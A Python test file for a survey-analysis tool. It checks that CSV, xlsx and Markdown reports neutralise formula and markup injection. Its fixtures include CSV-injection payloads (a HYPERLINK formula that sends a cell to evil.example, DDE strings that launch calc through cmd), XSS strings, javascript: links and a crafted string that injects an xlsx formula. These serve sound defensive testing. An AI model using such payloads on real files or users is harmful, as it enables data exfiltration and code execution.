"""Nothing written executes: formula cells in CSV and xlsx, markup and links in report.md."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from markdown_it import MarkdownIt
from test_report import make_result

from rsnet_analysis import report
from rsnet_analysis.contract import AnalysisResult
from rsnet_analysis.pipeline import write_outputs
from rsnet_analysis.report.render import markdown_code, markdown_escape, markdown_url
from rsnet_analysis.report.tables import (
    FORMULA_TRIGGERS,
    csv_cell,
    escape_formula,
    escape_formulas,
)

# an answer, an id, a segment value and a label of the kinds found in real exports and attacks
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
DDE = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
FULL = "＝ＨＹＰＥＲＬＩＮＫ（）"
FORMULAS = [HYPERLINK, DDE, MINUS, AT, TAB, CR, FULL]

IMG = "<img src=x onerror=alert(1)>"
SCRIPT = "<script>alert(2)</script>"
JS_LINK = "[ここを押す](javascript:alert(3))"
MARKUP = [IMG, SCRIPT, JS_LINK]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        *[(f, "'" + f) for f in FORMULAS],
        ("-5%の削減", "'-5%の削減"),
        ("研修=OJT", "研修=OJT"),
        ("'=1", "'=1"),
        ("", ""),
        ("ー5%", "ー5%"),
        (-0.25, -0.25),
        (None, None),
    ],
)
def test_escape_formula(value: object, expected: object) -> None:
    assert escape_formula(value) == expected


def test_a_lone_carriage_return_cannot_start_a_new_row(tmp_path: Path) -> None:
    table = pd.DataFrame({"自治体区分": ["市\r=1+1", "町\r\n村", CR], "n": [5, 6, 7]})
    path = report.write_csv(table, tmp_path / "t.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows == [["自治体区分", "n"], ["市\n=1+1", "5"], ["町\r\n村", "6"], ["'\n=1+1", "7"]]


def test_escape_formulas_keeps_numbers_and_escapes_headers() -> None:
    table = pd.DataFrame({"=名前": [HYPERLINK, "ok"], "change": [-0.5, 0.25], "n": ["<5", 7]})
    out = escape_formulas(table)
    assert list(out.columns) == ["'=名前", "change", "n"]
    assert out["'=名前"].tolist() == ["'" + HYPERLINK, "ok"]
    assert out["change"].tolist() == [-0.5, 0.25]
    assert out["n"].tolist() == ["<5", 7]
    assert list(table.columns)[0] == "=名前", "the input table is not changed"


def _attacked_result() -> AnalysisResult:
    """The report fixture with formulas in text, id, segment, label and name columns."""
    result = make_result()
    records = result.records.copy()
    kept = records.index[records["status"] == "kept"]
    for i, formula in enumerate(FORMULAS):
        row = kept[-(i + 1)]  # the last answers of the unnamed cluster: no representative ids
        records.loc[row, "text_masked"] = formula + " 研修が定着しない"
        records.loc[row, "record_id"] = formula
        records.loc[row, "自治体区分"] = formula
    records.loc[kept, "cluster_label"] = records.loc[kept, "cluster_label"].where(
        records.loc[kept, "cluster"] != 3, DDE
    )
    clusters = result.clusters.copy()
    clusters.loc[3, "label"] = DDE
    clusters.loc[3, "top_terms"] = AT
    subgroups = result.subgroups.copy()
    subgroups.loc[0, "members"] = MINUS
    summary = dict(result.summary)
    summary["notices"] = [HYPERLINK]
    return AnalysisResult(
        records=records,
        clusters=clusters,
        trends=result.trends,
        segments=result.segments,
        emerging=result.emerging,
        subgroups=subgroups,
        summary=summary,
        notices=[HYPERLINK],
        extras=result.extras,
    )


@pytest.fixture(scope="module")
def attacked_out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("attacked")
    write_outputs(_attacked_result(), out, reports=True)
    return out


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_csv_cell_starts_like_a_formula(attacked_out: Path) -> None:
    files = sorted(attacked_out.glob("*.csv"))
    assert {p.name for p in files} >= {"records.csv", "clusters.csv", "subgroups.csv"}
    for path in files:
        for cell in _csv_cells(path):
            assert _is_number(cell) or not cell.startswith(FORMULA_TRIGGERS), (path.name, cell)
    cells = set(_csv_cells(attacked_out / "records.csv"))
    for formula in FORMULAS:  # id and segment columns, and the answer text itself unchanged
        assert csv_cell(formula) in cells
        assert csv_cell(formula + " 研修が定着しない") in cells
    assert "'" + HYPERLINK in cells and "'\t=1+1" in cells and "'\n=1+1" in cells
    assert "'" + DDE in set(_csv_cells(attacked_out / "clusters.csv"))
    assert "'" + MINUS in set(_csv_cells(attacked_out / "subgroups.csv"))


def test_records_csv_reads_back_as_the_text_with_one_quote(attacked_out: Path) -> None:
    records = pd.read_csv(attacked_out / "records.csv", encoding="utf-8-sig", dtype=str)
    texts = set(records["text_masked"].dropna())
    assert "'" + HYPERLINK + " 研修が定着しない" in texts
    assert "デジタルに強い職員とそうでない職員の差が広がっています。" in texts


def _sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as book:
        return {n: book.read(n).decode("utf-8") for n in book.namelist() if n.endswith(".xml")}


def test_workbook_has_no_formula_anywhere(attacked_out: Path) -> None:
    parts = _sheet_xml(attacked_out / "report.xlsx")
    assert any(name.startswith("xl/worksheets/") for name in parts)
    for name, xml in parts.items():
        assert "<f>" not in xml and "<f " not in xml, name
        assert 't="e"' not in xml, name


def test_workbook_keeps_formula_text_as_quoted_string_cells(attacked_out: Path) -> None:
    from openpyxl import load_workbook

    book = load_workbook(attacked_out / "report.xlsx")
    seen: dict[str, set[str]] = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                    seen.setdefault(sheet.title, set()).add(cell.value)
    answers = seen["回答"]
    for formula in FORMULAS:  # the text as it was, in the text, id and segment columns
        if formula.startswith("\r"):  # XML reads a raw CR back as LF
            continue
        assert formula in answers
        assert formula + " 研修が定着しない" in answers
    assert DDE in seen["課題のまとまり"] and MINUS in seen["分科会候補"]
    assert any(HYPERLINK in value for value in seen["設定"])


def test_workbook_keeps_error_like_text_as_text(tmp_path: Path) -> None:
    result = make_result()
    records = result.records.copy()
    row = records.index[records["status"] == "kept"][-1]
    records.loc[row, "自治体区分"] = "#N/A"
    path = report.write_workbook(
        AnalysisResult(records=records, clusters=result.clusters, summary=result.summary),
        tmp_path / "report.xlsx",
    )
    assert all('t="e"' not in xml for xml in _sheet_xml(path).values())
    answers = pd.read_excel(path, sheet_name="回答", dtype=str, keep_default_na=False)
    assert "#N/A" in set(answers["自治体区分"])


def test_workbook_writes_each_value_by_its_type(tmp_path: Path) -> None:
    import datetime

    import xlsxwriter
    from openpyxl import load_workbook

    from rsnet_analysis.report.workbook import _OPTIONS, _Formats, _write_sheet

    table = pd.DataFrame({
        "=見出し": ["=1+1", "#N/A", "", None, "http://example.jp", "0012", "普通の文"],
        "割合": [0.5, float("nan"), float("inf"), 1, None, 0.125, 0.0],
        "値": [True, False, 3, datetime.date(2024, 4, 1), "+1", "-2", "@x"],
    })
    book = xlsxwriter.Workbook(str(tmp_path / "t.xlsx"), _OPTIONS)
    _write_sheet(book, _Formats(book), "表", table)
    book.close()
    sheet = load_workbook(tmp_path / "t.xlsx")["表"]
    header = sheet["A1"]
    assert header.value == "=見出し" and header.data_type == "s" and header.quotePrefix and header.font.b
    a = [c.value for c in sheet["A"][1:]]
    assert a == ["=1+1", "#N/A", None, None, "http://example.jp", "0012", "普通の文"]
    assert [c.data_type for c in sheet["A"][1:3]] == ["s", "s"] and sheet["A2"].quotePrefix
    assert not sheet["A3"].quotePrefix and not sheet["A8"].quotePrefix
    b = [c.value for c in sheet["B"][1:]]
    assert b[0] == 0.5 and b[1] is None and b[2] == "inf" and b[3] == 1 and b[4] is None and b[5] == 0.125
    assert sheet["B2"].number_format == "0.0%"
    c = [c.value for c in sheet["C"][1:]]
    assert c == [True, False, 3, "2024-04-01", "+1", "-2", "@x"]
    assert all(cell.quotePrefix for cell in sheet["C"][5:8])  # +1, -2 and @x start like formulas
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:C8"
    assert sheet["C2"].alignment.wrap_text  # 値 is a wide column


RICH = '<r><t>x</t></r></is></c><c><f>HYPERLINK("http://evil.example/","詳細")</f><v>0</v></c><c t="inlineStr"><is><r><t>y</t></r>'


@pytest.mark.parametrize("column", ["自治体区分", "text_masked"])  # without and with a column format (wrapped)
def test_workbook_writes_text_that_looks_like_rich_text_as_text(tmp_path: Path, column: str) -> None:
    # XlsxWriter copies a string between <r> and </r> into the sheet as it is: written so, an
    # answer could carry a formula element or make the file unreadable
    from openpyxl import load_workbook

    result = make_result()
    records = result.records.copy()
    kept = records.index[records["status"] == "kept"]
    records[column] = records[column].astype(object)
    records.loc[kept[-1], column] = RICH
    records.loc[kept[-2], column] = "<r>人事異動 & 引き継ぎ</r>"
    path = report.write_workbook(
        AnalysisResult(records=records, clusters=result.clusters, summary=result.summary), tmp_path / "report.xlsx"
    )
    assert all("<f>" not in xml and "<f " not in xml for xml in _sheet_xml(path).values())
    values = {c.value for row in load_workbook(path)["回答"].iter_rows() for c in row}
    assert {RICH, "<r>人事異動 & 引き継ぎ</r>"} <= values


def test_a_full_disk_while_the_workbook_is_written_gives_the_folder_message(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno

    import xlsxwriter.workbook

    from rsnet_analysis.errors import RsnetError

    class FullDisk(xlsxwriter.workbook.ZipFile):  # type: ignore[misc]
        def writestr(self, *args: object, **kwargs: object) -> None:
            raise OSError(errno.ENOSPC, "No space left on device")

        write = writestr  # type: ignore[assignment]

    monkeypatch.setattr(xlsxwriter.workbook, "ZipFile", FullDisk)
    with pytest.raises(RsnetError, match="空き容量"):
        write_outputs(make_result(), tmp_path / "out", reports=True)


# --------------------------------------------------------------------------------------------
# report.md


def _markup_result() -> AnalysisResult:
    """The report fixture with raw HTML and javascript: links in labels, quotes and names."""
    result = make_result()
    records = result.records.copy()
    kept = records["status"] == "kept"
    records.loc[kept & (records["challenge"] == "polarization"), "text_masked"] = (
        f"職員の差が大きい{IMG}と感じる。{JS_LINK}"
    )
    records.loc[kept & (records["challenge"] == "kpi"), "text_masked"] = (
        f"成果の測り方が分からない{SCRIPT}。"
    )
    records.loc[kept, "自治体区分"] = records.loc[kept, "自治体区分"].replace("市", f"市{IMG}")
    clusters = result.clusters.copy()
    clusters.loc[3, "label"] = f"生成AI{SCRIPT}"
    clusters.loc[3, "top_terms"] = f"{JS_LINK} {IMG}"
    emerging = result.emerging.copy()
    emerging.loc[0, "label"] = f"生成AI{SCRIPT}"
    emerging.loc[0, "top_terms"] = f"{JS_LINK} {IMG}"
    segments = result.segments.copy()
    segments["segment"] = segments["segment"].replace("市", f"市{IMG}")
    subgroups = result.subgroups.copy()
    subgroups.loc[0, "group"] = JS_LINK
    subgroups.loc[0, "regions"] = SCRIPT
    summary = dict(result.summary)
    summary["inputs"] = [f"{IMG}.csv", "```\n<script>x</script>.csv"]
    summary["by_file"] = {f"{IMG}.csv": summary["by_file"]["survey_2024.csv"]}
    summary["notices"] = [f"注意 {SCRIPT} {JS_LINK}"]
    summary["settings"] = {**summary["settings"], "inputs": summary["inputs"], "text_col": IMG}
    return AnalysisResult(
        records=records,
        clusters=clusters,
        trends=result.trends,
        segments=segments,
        emerging=emerging,
        subgroups=subgroups,
        summary=summary,
        notices=list(summary["notices"]),
        extras=result.extras,
    )


@pytest.fixture(scope="module")
def markup_md(tmp_path_factory: pytest.TempPathFactory) -> str:
    out = tmp_path_factory.mktemp("markup")
    report.write_reports(_markup_result(), out)
    return (out / "report.md").read_text(encoding="utf-8")


def _tokens(md: str) -> list:
    parser = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
    flat = []
    for token in parser.parse(md):
        flat.append(token)
        flat += token.children or []
    return flat


def test_markdown_passes_no_raw_html(markup_md: str) -> None:
    html = [t for t in _tokens(markup_md) if t.type in {"html_block", "html_inline"}]
    assert not html, [t.content for t in html]
    # only the rerun command, a literal code block, shows the file names as they are
    fence = next(t for t in _tokens(markup_md) if t.type == "fence")
    outside = markup_md.replace(fence.content, "")
    for raw in ("<img", "<script", "</script", "onerror=alert(1)>"):
        assert raw not in outside


def test_markdown_links_only_to_figures(markup_md: str) -> None:
    targets = []
    for token in _tokens(markup_md):
        if token.type in {"link_open", "image"}:
            targets.append(str(token.attrGet("href") or token.attrGet("src")))
    assert targets and all(t.startswith("figures/") for t in targets), targets
    assert "](javascript:" not in markup_md


def test_markdown_shows_the_text_as_it_was_written(markup_md: str) -> None:
    text = MarkdownIt("commonmark", {"html": True}).enable("table").render(markup_md)
    # rendered, the escaped values read as the characters they are
    assert "&lt;img src=x onerror=alert(1)&gt;" in text
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in text
    assert "[ここを押す](javascript:alert(3))" in text
    # the rerun command stays one literal code block, whatever its file names hold
    fences = [t for t in _tokens(markup_md) if t.type == "fence"]
    assert len(fences) == 1 and "<script>x</script>.csv" in fences[0].content


def test_normal_report_stays_readable(tmp_path: Path) -> None:
    report.write_reports(make_result(), tmp_path)
    md = (tmp_path / "report.md").read_text(encoding="utf-8")
    assert "\\" not in md.split("```sh")[0], "ordinary Japanese text needs no escapes"
    assert "| survey_2024.csv | 39 | 36 | 3 |" in md
    assert "(figures/challenge_sizes.png)" in md


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (IMG, "&lt;img src=x onerror=alert(1)&gt;"),
        (JS_LINK, r"\[ここを押す\]\(javascript:alert(3))"),
        ("![x](javascript:1)", r"!\[x\]\(javascript:1)"),
        ("<javascript:alert(1)>", "&lt;javascript:alert(1)&gt;"),
        ("a | b", r"a \| b"),
        ("# 見出し", r"\# 見出し"),
        ("1. 研修", r"1\. 研修"),
        ("- 研修", r"\- 研修"),
        ("---", r"\---"),
        ("**強調** `code` ~~消す~~", r"\*\*強調\*\* \`code\` \~\~消す\~\~"),
        ("一行目\n# 二行目", "一行目 # 二行目"),
        ("A&B", "A&amp;B"),
        ("survey_2023.csv", "survey_2023.csv"),
        ("-5%の削減", "-5%の削減"),
        ("12.5%", "12.5%"),
        ("研修の定着", "研修の定着"),
        (None, "None"),
        (7, "7"),
    ],
)
def test_markdown_escape(value: object, expected: str) -> None:
    assert markdown_escape(value) == expected


def test_markdown_url_and_code() -> None:
    assert markdown_url("figures/trends.png") == "figures/trends.png"
    assert markdown_url("javascript:alert(1)") == "javascript%3Aalert%281%29"
    assert markdown_code("rsnet analyze", "sh") == "```sh\nrsnet analyze\n```"
    block = markdown_code("a ```` b")
    assert block.startswith("`````\n") and block.endswith("\n`````")
    assert re.fullmatch(r"`{5}\na ```` b\n`{5}", block)


def test_the_date_column_as_typed_is_blank_where_it_was_not_a_date() -> None:
    # the raw date column is copied to records.csv and the workbook; a cell that was not read as
    # a date is free text nobody masked (a footnote row's 「問合せ：佐藤花子 03-1234-5678」)
    from rsnet_analysis.report.tables import records_for_output

    result = make_result()
    records = result.records.copy()
    records["回答日"] = records["date"].fillna("").astype(str)
    first, second = records.index[:2]
    records.loc[first, ["回答日", "date"]] = ["2024/4/1（山田太郎記入）", ""]
    records.loc[second, ["回答日", "date"]] = ["令和6年4月1日", "2024-04-01"]
    summary = {**result.summary, "columns": {**result.summary.get("columns", {}), "time": "回答日"}}
    shown = records_for_output(AnalysisResult(**{**result.__dict__, "records": records, "summary": summary}))
    assert shown.loc[first, "回答日"] == ""
    assert shown.loc[second, "回答日"] == "令和6年4月1日"
    assert not shown["回答日"].astype(str).str.contains("山田").any()
